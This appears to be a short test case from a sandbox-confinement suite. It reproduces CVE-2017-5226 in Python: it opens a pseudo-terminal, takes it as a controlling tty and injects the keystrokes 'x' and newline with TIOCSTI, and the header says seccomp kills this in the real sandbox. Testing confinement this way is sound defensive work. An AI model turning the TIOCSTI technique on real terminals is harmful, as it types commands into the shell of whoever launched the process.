# title: type into the terminal of whoever started us
# reference: CVE-2017-5226 (bubblewrap and TIOCSTI)
# real: killed: seccomp
# weakened: seccomp, landlock, mount_ns, privileges, user_ns, rlimits
# proof: value: "x"
# needs: root

import fcntl
import os
import termios


def attack(worker):
    _, terminal = os.openpty()
    if os.fork() == 0:  # TIOCSCTTY is for a leader of a session without a terminal
        os.setsid()
        fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
        fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
        fcntl.ioctl(terminal, termios.TIOCSTI, b"\n")
        os._exit(0)
    os.wait()
    return os.read(terminal, 10).decode().strip()
